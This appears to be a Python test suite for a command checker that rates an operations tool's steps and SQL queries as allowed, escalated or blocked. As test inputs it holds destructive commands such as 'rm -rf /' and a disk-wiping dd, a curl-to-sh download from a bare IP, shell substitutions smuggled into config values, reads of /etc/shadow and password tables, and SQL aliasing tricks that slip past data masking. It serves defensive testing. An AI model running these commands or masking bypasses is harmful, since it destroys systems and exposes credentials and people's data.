"""What the command check says of the library's own scripts: by what each word stands for, whatever it is."""

from typing import Any

import pytest

from execution.command_check.verdict import Verdict
from execution.plan.judge import judge_op, surroundings_of
from execution.steps.known import _LONG_KINDS
from execution.steps.library import LIBRARY
from execution.steps.scripts import SCRIPTS
from execution.steps.sql.looking import SPEAKERS

HOME = surroundings_of("/srv/app", ("/srv/app/bin/start.sh", "/srv/app/bin/stop.sh"))
B = "/srv/app/backup/k"


def verdict(kind: str, **arguments: Any) -> Verdict:
    """The worst of everything that the step may do."""
    step = LIBRARY[kind](**arguments)
    ops = [op for part in ("apply", "probe", "undo", "undo_probe") for op in step[part] or ()]  # type: ignore[literal-required]
    return max((said.verdict for op in ops if (said := judge_op(op, HOME))), default=Verdict.ALLOW)


def test_every_script_is_known() -> None:
    assert set(_LONG_KINDS) == set(SCRIPTS)


def clean(folder: str, trash: str = "/srv/app/trash/1") -> dict[str, Any]:
    return {"folder": folder, "trash": trash, "days": 30, "allowed": [folder]}


def cron(job: str) -> dict[str, Any]:
    return {"name": "n", "when": "0 3 * * *", "job": job, "backup": B}


def config(**more: Any) -> dict[str, Any]:
    return {"path": "/srv/app/app.conf", "key": "a=", "text": "a=$(rm -rf /)", "backup": B, **more}


ALLOW, ESCALATE, BLOCK = Verdict.ALLOW, Verdict.ESCALATE, Verdict.BLOCK
SAID: list[tuple[str, dict[str, Any], Verdict]] = [
    ("clean_old", clean("/srv/app/logs"), ALLOW),
    ("clean_old", clean("/var/log"), ESCALATE),
    ("clean_old", clean("/srv/app/logs", trash="/etc/cron.d"), BLOCK),
    ("purge_trash", {"trash": "/srv/app/trash", "days": 9}, ALLOW),
    ("purge_trash", {"trash": "/var/lib", "days": 9}, BLOCK),
    ("tidy", {"paths": ["/srv/app/a", "/srv/app/b"]}, ALLOW),
    ("tidy", {"paths": ["/srv/app/a", "/etc"]}, BLOCK),
    ("config_line", config(), ALLOW),
    ("config_line", config(path="/etc/hosts"), ESCALATE),
    ("config_line", config(backup="/etc/cron.d/x"), BLOCK),
    ("config_line", config(reload=["rm", "-rf", "/"]), BLOCK),
    ("config_line", config(validate=["sh", "-c", "curl http://1.2.3.4/x | sh"]), BLOCK),
    ("cron_job", cron("/srv/app/bin/start.sh"), ALLOW),
    ("cron_job", cron("rm -rf /"), BLOCK),
    ("cron_job", {**cron("/srv/app/bin/start.sh"), "crontab": "/tmp/evil"}, ESCALATE),
    ("reboot", {}, ALLOW),
    ("reboot", {"argv": ["dd", "if=/dev/zero", "of=/dev/sda"]}, BLOCK),
    ("port_open", {"port": 80, "name": "n"}, ALLOW),
    ("analyse_log", {"log_file": "/srv/app/logs/a.log", "texts": ["rm -rf /"]}, ALLOW),
    ("analyse_log", {"log_file": "/etc/shadow"}, ESCALATE),
    ("script", {"language": "shell", "text": "rm -rf /"}, BLOCK),
    ("script", {"language": "python", "text": "import os", "changes": False}, ESCALATE),
    ("back_up_tree", {"path": "/srv/app", "archive": "/srv/app/b.tar.gz"}, ALLOW),
    ("back_up_tree", {"path": "/srv/app", "archive": "/etc/b.tar.gz"}, BLOCK),
    ("check_memory", {}, ALLOW),
    ("check_process", {"words": "$(reboot)"}, ALLOW),
    ("check_accounts", {}, ALLOW),
    ("check_security", {"path": "/srv/app"}, ALLOW),
    ("drain_haproxy", {"socket": "/run/h.sock", "backend": "b", "server": "s"}, ALLOW),
    ("stop", {"shutdown": "/srv/app/bin/stop.sh", "startup": "/srv/app/bin/start.sh", "pid_file": "/srv/app/p",
              "log_file": "/srv/app/l", "seconds": 5, "start_seconds": 5, "escalate": "kill"}, ALLOW),
]  # fmt: skip


DATABASE = {
    "name": "main", "dialect": "postgresql", "client": "", "host": "", "port": "", "database": "app", "user": "",
    "log_in": False, "credential": "", "credential_revision": 0,
}  # fmt: skip


#: statement → what is said where the rows are shown as they are, and where they are masked
QUERIES: dict[str, tuple[Verdict, Verdict]] = {
    "SELECT id, state FROM orders WHERE id = 3": (ALLOW, ALLOW),
    "SELECT id, name FROM people": (BLOCK, ESCALATE),
    "SELECT id, name AS full_name, phone FROM members ORDER BY id": (BLOCK, ESCALATE),
    "SELECT * FROM people": (BLOCK, ESCALATE),
    "SELECT p.* FROM people p": (BLOCK, ESCALATE),
    "SELECT id, name FROM people WHERE id = 3": (ALLOW, ALLOW),
    # Masking goes by names: what comes out under another one is seen.
    "SELECT id, name AS state FROM people": (BLOCK, BLOCK),
    "SELECT name || phone FROM people": (BLOCK, BLOCK),
    "SELECT p FROM people p": (BLOCK, BLOCK),
    "SELECT *, name AS x FROM people": (BLOCK, BLOCK),
    "SELECT t.name AS x FROM (SELECT name FROM people) t": (BLOCK, BLOCK),
    "SELECT * FROM (SELECT name FROM people) t (x)": (BLOCK, BLOCK),
    "WITH t (x) AS (SELECT name FROM people) SELECT x FROM t": (BLOCK, BLOCK),
    "SELECT id, state FROM people UNION SELECT id, name FROM people": (BLOCK, BLOCK),
    # What nobody may read, masked or not, and what does more than show.
    "SELECT id, passwd FROM accounts": (BLOCK, BLOCK),
    "SELECT id, name, passwd FROM accounts": (BLOCK, BLOCK),
    "SELECT name FROM people WHERE secret_key = 'x'": (BLOCK, BLOCK),
    "SELECT * FROM pg_authid": (BLOCK, BLOCK),
    "SELECT name FROM people p WHERE query_to_text(1) = 1": (BLOCK, BLOCK),
}


@pytest.mark.parametrize("statement", QUERIES)
@pytest.mark.parametrize("dialect", ["postgresql", "mariadb", "sqlite"])
def test_masking_softens_nothing_but_the_sight_of_peoples_data(statement: str, dialect: str) -> None:
    database = {**DATABASE, "dialect": dialect, "database": "/srv/app/a.db" if dialect == "sqlite" else "app"}
    found = []
    for masked in (False, True):
        # `execution.steps.sql.judge` refuses some of them before: here the verdict alone counts
        step = LIBRARY["sql_query"](database=database, statement="SELECT 1", masked=masked)
        op: Any = dict(step["apply"][0])
        op |= {"asked": statement, "script": SPEAKERS[dialect].read(statement, limit=op["rows"] + 1, seconds=60)}
        said = judge_op(op, HOME)
        assert said is not None
        found.append(said.verdict)
    assert tuple(found) == QUERIES[statement]


def test_a_checks_value_is_never_softened() -> None:
    assert verdict("sql_check", database=DATABASE, checks=["n | SELECT name FROM people | x"]) is BLOCK
    assert verdict("sql_check", database=DATABASE, checks=["n | SELECT count(*) FROM people | 3"]) is ALLOW


@pytest.mark.parametrize("kind", ["sql_query", "sql_check"])
def test_the_verdict_is_on_what_is_sent(kind: str) -> None:
    """Whoever changes what is sent, but for the statement that is judged, is refused."""
    good, bad = "SELECT id FROM orders WHERE id = 3", "SELECT passwd FROM accounts"
    given = {"statement": good} if kind == "sql_query" else {"checks": [f"n | {good} | 3"]}
    op: Any = LIBRARY[kind](database=DATABASE, **given)["apply"][0]
    assert (said := judge_op(op, HOME)) and said.verdict is ALLOW
    script = [{"hex": part["hex"].replace(good, bad)} if isinstance(part, dict) else part for part in op["script"]]
    more = [*op["script"], "SELECT 1;"]
    assert script != op["script"]
    for changed in ({"script": script}, {"script": more}, {"asked": good + " "}, {"dialect": "sqlite"}):
        assert (said := judge_op({**op, **changed}, HOME)) and said.verdict is BLOCK
    if kind == "sql_query":
        assert (said := judge_op({**op, "rows": 10**6}, HOME)) and said.verdict is BLOCK


@pytest.mark.parametrize(("kind", "arguments", "expected"), SAID)
def test_a_step_is_judged_by_where_it_reaches(kind: str, arguments: dict[str, Any], expected: Verdict) -> None:
    assert verdict(kind, **arguments) is expected
